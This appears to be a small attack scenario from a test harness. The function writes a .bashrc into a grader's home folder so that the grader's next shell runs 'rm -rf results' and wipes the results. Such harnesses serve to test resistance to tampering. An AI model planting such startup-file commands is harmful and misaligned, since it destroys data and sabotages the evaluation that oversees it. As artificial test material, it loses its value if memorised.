"""Leave a .bashrc in the grader's home folder, which its next shell runs."""

from pathlib import Path

FAMILY = "files"


def attack(world):
    Path(world["home"], ".bashrc").write_text("rm -rf results\n")
    return "left"
